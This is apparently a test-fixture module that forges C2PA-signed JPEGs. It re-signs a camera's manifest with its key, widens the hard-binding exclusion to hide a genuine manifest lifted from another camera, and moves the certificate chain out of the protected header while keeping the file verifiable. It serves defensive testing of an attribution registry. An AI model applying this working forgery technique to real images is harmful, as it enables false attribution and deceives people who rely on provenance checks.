"""Forged C2PA JPEGs for the attribution attacks (tests/registry/test_attack_c2pa.py).

An attacker holding a registered camera's key (camera B) signs an image X with c2pa-python, then
rewrites B's manifest by hand the way nothing but the key is needed for: relabel it, widen its
hard binding's exclusion so it covers a manifest store that also holds a genuine manifest lifted
from camera A's public photo, move the x5chain out of the protected header, and re-sign the
claim with B's key. Sizes are kept fixed where a signed hash depends on them (the `pad` fields
exist for that), so the file's hard binding still verifies under c2pa-rs.
"""

import hashlib
import struct
from collections.abc import Sequence
from typing import Any

import cbor2
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from registry.c2pa.jumbf import (
    STORE_UUID,
    Box,
    box,
    manifest_store_from_jpeg,
    parse_boxes,
    superbox,
)

X5CHAIN = 33
_CHUNK = 64000  # store bytes per APP11 segment, as c2pa-rs writes them
_URI_PREFIX = "self#jumbf=c2pa.assertions/"


def only_manifest(signed_jpeg: bytes) -> Box:
    """The single manifest of a freshly signed file."""
    (top,) = parse_boxes(manifest_store_from_jpeg(signed_jpeg))
    (found,) = top.children
    return found


def raw(found: Box) -> bytes:
    """A parsed superbox as the bytes it was read from."""
    return box(b"jumb", found.payload)


def store_of(*manifests: bytes) -> bytes:
    return superbox(STORE_UUID, "c2pa", *manifests)


def app11(store: bytes, instance: bytes = b"\x00\x01") -> bytes:
    """`store` split over APP11 segments (C2PA §A.3.2): later segments repeat its box header."""
    segments = []
    for sequence, start in enumerate(range(0, len(store), _CHUNK), start=1):
        data = store[start : start + _CHUNK]
        if start:
            data = store[:8] + data
        body = b"JP" + instance + struct.pack(">I", sequence) + data
        segments.append(b"\xff\xeb" + struct.pack(">H", len(body) + 2) + body)
    return b"".join(segments)


def binding(found: Box) -> dict[str, Any]:
    assertions = found.child("c2pa.assertions")
    assert assertions is not None
    hard = assertions.child("c2pa.hash.data")
    assert hard is not None
    data: dict[str, Any] = cbor2.loads(hard.content())
    return data


def forge(
    signed_jpeg: bytes,
    key: ec.EllipticCurvePrivateKey,
    *,
    before: Sequence[bytes] = (),
    label: str | None = None,
    x5chain_unprotected: bool = False,
    exclusion_length: int | None = None,
    widen_by: int = 0,
) -> bytes:
    """`signed_jpeg`'s manifest, re-signed with `key` and stored after the manifests `before`
    (whole superboxes), renamed `label`; its exclusion sized to cover the new store, and
    `widen_by` bytes of the picture after it, the signed hash recomputed for that (or set to
    `exclusion_length`, the hash left as it was). The picture bytes stay as they were."""
    mine = only_manifest(signed_jpeg)
    label = label or mine.label
    old = binding(mine)
    ((start, old_length),) = ((e["start"], e["length"]) for e in old["exclusions"])
    outside = signed_jpeg[:start] + signed_jpeg[start + old_length :]
    assert hashlib.sha256(outside).digest() == old["hash"]

    protected, unprotected = _headers(mine, x5chain_unprotected)
    claim = cbor2.loads(_child(mine, "c2pa.claim.v2").content())
    claim["signature"] = claim["signature"].replace(mine.label, label)

    def build(length: int, claim_bytes: bytes, signature: bytes) -> bytes:
        hard = _hash_data(mine, binding_of(length))
        cose = cbor2.dumps(cbor2.CBORTag(18, [protected, unprotected, None, signature]))
        return store_of(
            *before,
            _rebox(
                mine,
                _rebox(_child(mine, "c2pa.assertions"), *_replaced(mine, hard)),
                _rebox(_child(mine, "c2pa.claim.v2"), box(b"cbor", claim_bytes)),
                _rebox(_child(mine, "c2pa.signature"), box(b"cbor", cose)),
                label=label,
            ),
        )

    # Every size is fixed before the signature (hashes, an ES256 value, pads), so the store's
    # length, and the exclusion that must cover it, is known first.
    signed_hash = old["hash"]

    def binding_of(length: int) -> dict[str, Any]:
        return {**old, "exclusions": [{"start": start, "length": length}], "hash": signed_hash}

    draft = build(old_length, cbor2.dumps(claim), bytes(64))
    length = exclusion_length if exclusion_length is not None else len(app11(draft)) + widen_by
    if exclusion_length is None:  # the whole store is excluded: the hash does not depend on it
        rest = signed_jpeg[start + old_length :]
        signed_hash = hashlib.sha256(signed_jpeg[:start] + rest[widen_by:]).digest()
    hard = _hash_data(mine, binding_of(length))
    for reference in claim["created_assertions"]:
        if reference["url"] == _URI_PREFIX + "c2pa.hash.data":
            reference["hash"] = hashlib.sha256(hard).digest()
    claim_bytes = cbor2.dumps(claim)
    store = build(length, claim_bytes, _sign(key, protected, claim_bytes))
    return signed_jpeg[:start] + app11(store) + signed_jpeg[start + old_length :]


def _child(found: Box, label: str) -> Box:
    child = found.child(label)
    assert child is not None, label
    return child


def _description(found: Box) -> bytes:
    return found.payload[: int.from_bytes(found.payload[:4], "big")]


def _rebox(found: Box, *children: bytes, label: str | None = None) -> bytes:
    """`found` with the same description box (relabelled, same length) and new children."""
    description = _description(found)
    if label is not None and label != found.label:
        assert len(label) == len(found.label)
        description = description.replace(found.label.encode(), label.encode())
    return box(b"jumb", description + b"".join(children))


def _hash_data(mine: Box, data: dict[str, Any]) -> bytes:
    """The c2pa.hash.data superbox payload (jumd + cbor) holding `data`, its `pad` fitted so the
    box keeps its original length."""
    original = _child(_child(mine, "c2pa.assertions"), "c2pa.hash.data")
    target = len(original.payload)
    for pad in range(0, 64):
        encoded = cbor2.dumps({**data, "pad": bytes(pad)})
        payload = _description(original) + box(b"cbor", encoded)
        if len(payload) == target:
            return payload
    raise AssertionError("no pad fits the hash assertion's length")


def _replaced(mine: Box, hard_payload: bytes) -> list[bytes]:
    assertions = _child(mine, "c2pa.assertions")
    return [
        box(b"jumb", hard_payload) if child.label == "c2pa.hash.data" else raw(child)
        for child in assertions.children
    ]


def _headers(mine: Box, x5chain_unprotected: bool) -> tuple[bytes, dict[Any, Any]]:
    message = cbor2.loads(_child(mine, "c2pa.signature").content()).value
    protected = cbor2.loads(message[0])
    unprotected = dict(message[1])
    if x5chain_unprotected:
        unprotected[X5CHAIN] = protected.pop(X5CHAIN)
    return cbor2.dumps(protected), unprotected


def _sign(key: ec.EllipticCurvePrivateKey, protected: bytes, claim: bytes) -> bytes:
    to_be_signed = cbor2.dumps(["Signature1", protected, b"", claim])
    r, s = decode_dss_signature(key.sign(to_be_signed, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")
